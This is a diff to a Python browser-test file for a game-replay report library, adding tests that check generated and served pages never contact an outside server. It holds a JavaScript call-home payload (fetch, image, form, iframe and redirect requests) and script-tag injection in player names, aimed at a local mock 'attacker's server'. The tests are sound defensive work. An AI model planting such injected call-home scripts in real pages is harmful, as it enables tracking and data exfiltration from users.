@@ -17,7 +17,7 @@ import uvicorn
 import web_helpers
 from axe_core_python import sync_playwright as axe
 from playwright import sync_api
-from starlette import applications, routing, staticfiles
+from starlette import applications, responses, routing, staticfiles
 
 from ftwax.records import run_directory
 from ftwax.reporting import comparison, report, saved_games, sweep_figures
@@ -210,7 +210,8 @@ def test_a_match_against_the_population_is_played_and_shared(page, tmp_path):
   assert record['outcome'] == ([-1, 1] if ours < theirs else [0, 0])
   assert record['level'] == 'hard'
   assert len(record['states']) == 301 and len(record['actions']) == 300
-  assert 'ftwax.games.capture_the_flag' in saved_games.to_html(record)
+  text = saved_games.to_html(record, saved_games.own_scripts())
+  assert 'ftwax.games.capture_the_flag' in text
   page.click('#share')
   page.wait_for_selector('#copied:not(:empty)')
   shared = page.url
@@ -311,7 +312,7 @@ def test_a_shared_game_plays_the_same_states_without_a_network(
   _, saved = game_table
   name, record = saved.readable()[0]
   path = tmp_path / f'{name}.html'
-  path.write_text(saved_games.to_html(record))
+  path.write_text(saved_games.to_html(record, saved_games.own_scripts()))
   page.context.set_offline(True)
   page.goto(path.as_uri())
   shown = [page.evaluate('ftwax.replay.stage.to')]
@@ -342,10 +343,14 @@ def test_a_report_plays_chosen_games_of_any_drawing(page, tmp_path):
   }  # fmt: skip
   other = {**game, 'states': [[2, 2, 0, 0, 0], [2, 0, 0, 1, 1]]}
   path = tmp_path / 'report.html'
-  part = saved_games.make_player([game, other])
+  script = tmp_path / 'rock_paper_scissors.js'
+  script.write_text(code)
+  part, used = saved_games.make_player(
+    [game, other], saved_games.own_scripts([script])
+  )
   names = [f'member {index}' for index in range(9)]
   wide = report_page.columns(['Elo of', *names], [['all', *names]])
-  path.write_text(report_page.render('Report', [part, wide]))
+  path.write_text(report_page.render('Report', [part, wide], used))
   page.context.set_offline(True)
   page.goto(path.as_uri())
   labels = page.locator('#match option').all_inner_texts()
@@ -360,6 +365,96 @@ def test_a_report_plays_chosen_games_of_any_drawing(page, tmp_path):
   assert page.locator('canvas').count() == 1
   assert page.locator('canvas').screenshot() != before
   _check_looks(page, 'report_of_games')
+
+
+# Ways for a page to call home, of which a policy for requests stops a few.
+_CALLS = """
+  const home = '{home}/' + '{name}';
+  try {{ fetch(home); }} catch (e) {{}}
+  try {{ new Image().src = home; }} catch (e) {{}}
+  try {{ window.open(home); }} catch (e) {{}}
+  const form = document.createElement('form');
+  form.action = home;
+  document.documentElement.append(form);
+  try {{ form.submit(); }} catch (e) {{}}
+  const frame = document.createElement('iframe');
+  frame.src = home;
+  document.documentElement.append(frame);
+  location = home;
+"""
+
+
+@pytest.fixture
+def home():
+  """An attacker's server, and what it hears."""
+  heard = []
+
+  async def hear(request):
+    heard.append(str(request.url))
+    return responses.PlainTextResponse('thanks')
+
+  app = applications.Starlette(routes=[routing.Route('/{path:path}', hear)])
+  with _serve(app) as address:
+    yield address, heard
+
+
+def _foreign_game(home, name, script):
+  calls = _CALLS.format(home=home, name=name)
+  return {
+    'game': '<b>pit</b>', 'script': script, 'code': calls,
+    'facts': {}, 'outcome': [1.0, -1.0], 'speed': 12, 'seed': 0, 'actions': [],
+    'states': [{'frame': f'{home}/frame'}] * 2,
+    'seats': [
+      {'name': f'<script>{calls}</script><img src={home}/name>',
+       'kind': 'player', 'team': 0, 'rating': 0},
+    ],
+  }  # fmt: skip
+
+
+def test_no_page_of_a_foreign_folder_calls_home(browser, tmp_path, home):
+  address, heard = home
+  run = web_helpers.make_population_run(tmp_path / 'run', 0)
+  games = saved_games.SavedGames(run / 'games')
+  # A script of its own, and those of the library, with other code.
+  for script in ('pit', 'frames', 'catch'):
+    games.save(_foreign_game(address, script, script))
+  path = report.make_report(run)
+  assert 'Games drawn by pit are left out' in path.read_text('utf-8')
+  context = browser.new_context()
+  page = context.new_page()
+  page.goto(path.as_uri())
+  page.wait_for_timeout(500)
+  assert page.url == path.as_uri()
+  # A page that lies there is not that of the library.
+  calls = _CALLS.format(home=address, name='report')
+  path.write_text(
+    f'<meta http-equiv="refresh" content="0; url={address}/refresh">'
+    f'<script>{calls}</script>'
+  )
+  app = pages.make_watch_app([run_tail.RunTail(run)], None, games)
+  with _serve(app) as watched:
+    names = [name for name, _ in games.readable()]
+    assert len(names) == 3
+    for part in ('/', '/runs/0/report', *(f'/games/{name}' for name in names)):
+      page.goto(watched + part)
+      page.wait_for_timeout(500)
+      assert page.url == watched + part
+  room = play_room.Room(web_helpers.make_catch(), games)
+  with _serve(pages.make_play_app(room, games)) as played:
+    for part in ('/', *(f'/games/{name}' for name in names)):
+      page.goto(played + part)
+      page.wait_for_timeout(500)
+      assert page.url == played + part
+  assert len(context.pages) == 1
+  context.close()
+  assert heard == []
+
+
+def test_the_attackers_server_hears_what_a_page_may_call(page, home):
+  address, heard = home
+  page.goto('data:text/html,<script>location = "' + address + '/x"</script>')
+  page.wait_for_url(f'{address}/x')
+  assert heard[0] == f'{address}/x'
 
 
 def test_pages_of_ended_runs_begin_with_numbers(page, tmp_path):
